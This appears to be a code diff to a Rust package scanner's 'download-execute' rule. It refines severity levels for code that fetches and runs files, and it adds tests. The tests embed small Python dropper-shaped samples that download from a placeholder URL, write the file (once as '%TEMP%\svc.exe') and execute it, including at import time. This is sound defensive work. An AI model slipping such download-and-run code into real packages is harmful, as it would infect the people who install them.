@@ -24,8 +24,10 @@ declare_rule! {
     ///
     /// ## False positives
     /// Tools that download and launch a browser driver or toolchain when
-    /// asked: inside functions this is reported as `medium` unless the source
-    /// is a paste site, tunnel or raw IP.
+    /// asked (a driver installer, a conda bootstrap, even one written to a file
+    /// and run): inside functions this is `medium` unless the source is a paste
+    /// site, tunnel or raw IP, the launch is hidden, the code runs straight from
+    /// the response, or a named Windows program (`…\\svc.exe`) is dropped and started.
     DownloadExecute, id = "download-execute", severity = Critical,
     summary = "downloads a file or code and executes it"
 }
@@ -142,7 +144,13 @@ impl Rule for DownloadExecute {
             let severity = match stage {
                 Stage::Install | Stage::Import if pip || !linked => Severity::High,
                 Stage::Install | Stage::Import => Severity::Critical,
-                Stage::Call if direct || shady_source.is_some() || dropped_program || runs_written || hidden(run) => {
+                // A library function that fetches an installer and runs it (a driver, a
+                // toolchain, a conda bootstrap) is what its caller asked for: `medium`.
+                // Code executed straight from a response, a source named for what it is
+                // (a paste site, a tunnel, a raw IP) or a hidden launch is `high` (issue 11).
+                Stage::Call
+                    if direct || shady_source.is_some() || untrusted_source || dropped_program || hidden(run) =>
+                {
                     Severity::High
                 }
                 Stage::Call => Severity::Medium,
@@ -281,9 +289,11 @@ fn raw_file_host(url: &str) -> bool {
 fn names_program(s: &str) -> bool {
     let l = s.to_ascii_lowercase();
     let path = l.split(['?', '#']).next().unwrap_or(&l);
+    let file = path.rsplit(['/', '\\']).next().unwrap_or(path);
+    // A name, not an extension on its own (`exe_ext = ".exe"`).
     [".exe", ".bat", ".vbs", ".ps1", ".scr"]
         .iter()
-        .any(|e| path.ends_with(e))
+        .any(|e| file.len() > e.len() && file.ends_with(e))
 }
 
 /// A launch that hides its window or detaches from the console.
@@ -486,8 +496,25 @@ mod tests {
     #[test]
     fn fires_on_running_the_file_it_wrote() {
         let src = "import requests, subprocess\ndef init(url, path):\n    r = requests.get(url)\n    with open(path, 'wb') as f:\n        f.write(r.content)\n    subprocess.run([path])\n";
+        // Run by importing: a dropper.
+        let at_import = src.replace(
+            "def init(url, path):",
+            "url, path = 'https://x.example/a', 'a'\ndef init():",
+        ) + "init()\n";
+        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/__init__.py", &at_import)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // In a library function (a driver installer fetched and run when asked): a note.
         let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", src)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
+        // A Windows program dropped and started when called is still a dropper's shape.
+        let exe = src.replace(
+            "with open(path",
+            "path = os.environ['TEMP'] + '\\\\svc.exe'\n    with open(path",
+        );
+        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", &exe)]);
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+        // An extension on its own is not a program's name (`exe_ext = ".exe"`).
+        assert!(!names_program(".exe") && names_program("C:\\t\\svc.exe") && names_program("https://x/a.bat?dl=1"));
     }
 
     #[test]
